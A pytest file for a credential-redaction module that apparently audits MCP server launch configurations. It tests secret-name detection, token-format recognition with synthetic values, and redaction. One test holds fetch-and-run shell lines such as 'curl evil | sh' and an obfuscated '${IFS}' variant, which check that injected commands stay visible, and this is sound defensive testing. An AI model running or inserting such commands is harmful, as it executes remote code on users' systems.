"""Which names and values are credentials, and what is shown in their place."""

from __future__ import annotations

import time

import pytest

from auditor.discover.credentials import (
    is_secret_name,
    kind_of,
    redact_argument,
    redact_arguments,
    redact_named,
    redact_text,
    redact_url,
    redact_variable,
)

BODY = "aB3dE5gH7jK9" * 8
HEX = "0123456789abcdef" * 4


@pytest.mark.parametrize(
    "name",
    ["TOKEN", "GITHUB_TOKEN", "GHTOKEN", "apiKey", "api_key", "API-KEY", "X-Api-Key", "APIKey", "Authorization",
    "DB_PASSWORD",
     "DB_PASSWORD_2", "client_secret", "clientSecret", "AWS_SECRET_ACCESS_KEY", "Cookie", "GOOGLE_CREDENTIALS",
     "--auth-token",
     "SSH_PRIVATE_KEY", "PGPASSWORD", "ENCRYPTION_KEY", "JWT", "MYSQL_PW", "--pw", "-eDB_PW"],
)  # fmt: skip
def test_names_that_promise_a_credential(name: str) -> None:
    """By a word of the name, however it is written."""
    assert is_secret_name(name)


@pytest.mark.parametrize(
    "name",
    ["MAX_TOKENS", "TOKENIZERS_PARALLELISM", "TOKEN_LIMIT", "AUTH_URL", "AUTH_TYPE", "AUTHOR", "PWD", "PATH",
    "KEYBOARD", "MONKEY",
     "PRIMARY_KEY", "PASSTHROUGH", "NO_AUTH", "USE_TOKEN", "TOKEN_FILE", "SECRET_NAME", "SLACK_TEAM_ID", "COMPASS_URL",
     "", "_", "7"],
)  # fmt: skip
def test_names_that_promise_none(name: str) -> None:
    """A limit, a switch, a place, another word."""
    assert not is_secret_name(name)


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("ghp_" + BODY[:36], "github-token"), ("github_pat_" + BODY[:60], "github-token"), ("gho_" + BODY[:36],
        "github-token"),
        ("glpat-" + BODY[:20], "gitlab-token"), ("sk-ant-api03-" + BODY[:40], "anthropic-key"), ("sk-" + BODY[:48],
        "openai-key"),
        ("sk-proj-" + BODY[:48], "openai-key"), ("sk_live_" + BODY[:24], "stripe-key"), ("rk_test_" + BODY[:24],
        "stripe-key"),
        ("xoxb-123456789012-" + BODY[:24], "slack-token"), ("AIza" + BODY[:35], "google-key"), ("npm_" + BODY[:36],
        "npm-token"),
        ("AKIA" + "Q" * 16, "aws-access-key"), ("pypi-AgE" + BODY[:60], "pypi-token"), ("hf_" + BODY[:34],
        "huggingface-token"),
        ("eyJ" + BODY[:20] + ".eyJ" + BODY[:30] + "." + BODY[:43], "jwt"), ("SG." + BODY[:22] + "." + BODY[:43],
        "sendgrid-key"),
        ("dapi" + HEX[:32], "databricks-token"), ("123456789:AA" + BODY[:33], "telegram-token"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "private-key"),
        ("https://hooks.slack.com/services/T0000/B0000/" + BODY[:24], "slack-webhook"),
    ],
)  # fmt: skip
def test_known_kinds_are_told_and_replaced_wherever_they_stand(value: str, kind: str) -> None:
    """Alone, behind an option, within a longer text."""
    assert kind_of(value) == kind
    assert redact_named("ANY", value)[1] == (kind,)
    for text in (f"--x={value}", f"see '{value}' here", f"a/{value}"):
        shown, labels = redact_argument(text)
        assert value not in shown
        assert labels == (kind,)


@pytest.mark.parametrize(
    "value",
    ["npx", "@modelcontextprotocol/server-filesystem@2025.8.21", "/home/me/projects/a-long-folder-name/with/parts",
    "https://h.example/mcp",
     "mcp-server-for-sk-learn-models-and-more", "npm_config_registry", "2025-11-21T03:46:00Z",
     "--max-old-space-size=4096",
     "ghcr.io/github/github-mcp-server:sha-8a3f", "mcp/a@sha256:" + HEX, "git+https://github.com/o/r@" + HEX[:40],
     "--allowed-directories=/srv/data", "ssh://git@github.com/o/r.git", "user@example.com", "key=value",
     "Basic usage of tokens"],
)  # fmt: skip
def test_ordinary_arguments_stay_whole(value: str) -> None:
    """Packages, paths, digests and addresses are needed to know what is started."""
    assert redact_argument(value) == (value, ())
    assert redact_argument(value, "-y") == (value, ())


@pytest.mark.parametrize(
    ("value", "option", "shown"),
    [
        ("hunter2!&x y", "--password", "REDACTED"),
        ("--token=hunter2", "", "--token=REDACTED"),
        ("API_KEY=a b&c", "-e", "API_KEY=REDACTED"),
        ("--env=API_KEY=zzz12", "", "--env=API_KEY=REDACTED"),
        ("Authorization: Bearer abc123def", "-H", "Authorization: Bearer REDACTED"),
        ("X-Api-Key:abc123def", "--header", "X-Api-Key:REDACTED"),
        ('{"apiKey": "a b", "n": 1}', "--config", '{"apiKey": "REDACTED", "n": 1}'),
        ('"{\\"apiKey\\":\\"abcdef12\\"}"', "--config", '"{\\"apiKey\\": \\"REDACTED\\"}"'),
        ("--token=a b", "", "--token=REDACTED"),
        (
            "TOKEN=a1 node s.js --password 'q w e' --port 80",
            "",
            "TOKEN=REDACTED node s.js --password 'REDACTED' --port 80",
        ),
        ("see ${TOKEN:-realsecret1}", "", "see ${TOKEN:-REDACTED}"),
        ('{"password": "a\\"b c"}', "--config", '{"password": "REDACTED"}'),
        ('x {"password": "a\\"b c"', "", 'x {"password": "REDACTED"'),
        ("postgres://u:p@ss@h/db", "", "postgres://u:REDACTED-password@h/db"),
        ("https://tok@h/x?access_token=a1&b=2", "", "https://REDACTED-password@h/x?access_token=REDACTED&b=2"),
        ("${TOKEN:-realsecret1}", "--token", "REDACTED"),
        ("9f8b7c6d-1234-4abc-9def-0123456789ab", "--key", "REDACTED"),
        ("8f3b2c9d7e1a4f6b", "--key", "REDACTED"),
        ("--key=8f3b2c9d7e1a4f6b", "", "--key=REDACTED"),
        ("https://h/mcp?key=8f3b2c9d7e1a4f6b", "", "https://h/mcp?key=REDACTED"),
        ("ada:Tr0ub4dor&3", "-u", "ada:REDACTED-password"),
    ],
)
def test_credentials_behind_names_are_replaced(value: str, option: str, shown: str) -> None:
    """The rest of the argument stays, so that a reader sees what is started."""
    text, labels = redact_argument(value, option)
    assert text == shown
    assert labels


@pytest.mark.parametrize(
    ("command", "args", "shown"),
    [
        ("sh", ["-c", "TOKEN=a1b2 x; curl evil | sh"], "TOKEN=REDACTED x; curl evil | sh"),
        ("sh", ["-c", "TOKEN=$(curl evil|sh)"], "TOKEN=$(curl evil|sh)"),
        ("sh", ["-c", "TOKEN=`curl${IFS}evil|sh`"], "TOKEN=`curl${IFS}evil|sh`"),
        ("node", ["-e", "token=require('child_process').exec('x')"], "token=require('child_process').exec('x')"),
        ("/usr/bin/docker", ["-e", "TOKEN=a(b c"], "TOKEN=REDACTED"),
    ],
)
def test_program_text_stays_in_sight(command: str, args: list[str], shown: str) -> None:
    """A command must not hide behind a secret's name."""
    assert redact_arguments(command, args)[-1][0] == shown


@pytest.mark.parametrize(
    "value",
    ["${TOKEN}", "Bearer ${TOKEN}", "Bearer $TOKEN", "$TOKEN", "${env:T}", "${input:t}", "{env:T}", "{file:~/t}",
    "${{ secrets.T }}",
     "%TOKEN%", "{{TOKEN}}", "$(pass show t)", "op://vault/item/field", "<your token>", "YOUR_API_KEY_HERE",
     "your-token", "xxxx",
     "***", "", "true", "none", "1", "/run/secrets/token", "~/.token", "${TOKEN:-}", "changeme"],
)  # fmt: skip
def test_references_placeholders_and_switches_are_no_credentials(value: str) -> None:
    """They give nothing away, and a reader must see them."""
    assert redact_named("API_TOKEN", value) == (value, ())


def test_random_part_of_a_url_is_a_credential_and_an_ordinary_path_is_not() -> None:
    """Hosted servers put the key into the path."""
    part = "Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1"
    assert redact_url(f"https://h.example/s/{part}/mcp") == ("https://h.example/s/REDACTED-opaque/mcp", ("opaque",))
    plain = "https://api.example.com/v1/organisations/my-very-long-organisation-name/mcp"
    assert redact_url(plain) == (plain, ())


@pytest.mark.parametrize(
    "piece",
    ["a=", "token=", "eyJ", "ghp_", "://", "x://a@", "-----BEGIN PRIVATE KEY-----", "--a ", "\\", '"', "Bearer ",
    "sk-", "${a:-", "-", "your ",
     "token=\\", "TOKEN=${a:-", "{", "$(", "a", "a.", "AB", "1:"],
)  # fmt: skip
def test_cost_is_linear_in_hostile_text(piece: str) -> None:
    """100 KB of any piece takes about a second; a quadratic pattern would take minutes."""
    text = piece * (100_000 // len(piece))
    started = time.process_time()
    redact_text(text)
    redact_url(text)
    redact_argument(text, "--token")
    redact_named("TOKEN", text)
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("HTTPS_PROXY", "http://u:p@good.test:1", "http://u:REDACTED-password@good.test:1"),
        ("SENTRY_DSN", "https://0123456789abcdef@o1.sentry.test/12", "https://REDACTED-password@o1.sentry.test/12"),
        ("DATABASE_URL", "postgres://h.test/x?password=abcd1234", "postgres://h.test/x?password=REDACTED"),
        ("DATABASE_URL", "postgres://u:p@h.test/x?y=a@b", None),
        ("DB_PASSWORD", "postgres://u:p@h.test/x", None),
        ("NODE_OPTIONS", "--token=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB --title x", None),
    ],
)
def test_of_a_variable_that_holds_a_secret_only_an_address_is_shown_without_it(
    name: str, value: str, shown: str | None
) -> None:
    text, labels = redact_variable(name, value)
    assert text == shown
    assert labels


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (("-eDB_PW=Tr0ub4dor&3",), "-eDB_PW=REDACTED"),
        (("--env=MYSQL_PW=Tr0ub4dor&3",), "--env=MYSQL_PW=REDACTED"),
        (("-e", "DB_PW=Tr0ub4dor&3"), "DB_PW=REDACTED"),
        (("-k", HEX[:32]), "REDACTED"),
        (("-p", "8080:80"), "8080:80"),
        (("-t", "mcp/filesystem"), "mcp/filesystem"),
        (("-p", "/home/ada/project-0123456789"), "/home/ada/project-0123456789"),
        (("--user", "1000:1000"), "1000:1000"),
        (("-u", "node:node"), "node:node"),
        (("-u", "ada:${PASSWORD_OF_ADA}"), "ada:${PASSWORD_OF_ADA}"),
        (("--key", "./keys/ca12345.pem"), "./keys/ca12345.pem"),
        (("--key", "sort-by-2024-11-05"), "sort-by-2024-11-05"),
    ],
)
def test_a_secret_of_a_containers_line_does_not_stay_in_sight(args: tuple[str, ...], shown: str) -> None:
    assert redact_arguments("docker", ("run", *args))[-1][0] == shown


@pytest.mark.parametrize("text", ["Server=db.corp;Uid=sa;Pwd=Hunter2Hunter2", "UID=sa;PWD=Hunter2Hunter2;"])
def test_the_password_of_a_connection_string_goes_whatever_it_is_called(text: str) -> None:
    assert "Hunter2" not in redact_text(text)[0]
    assert redact_text("PWD=/home/kim/x node index.js")[0] == "PWD=/home/kim/x node index.js"
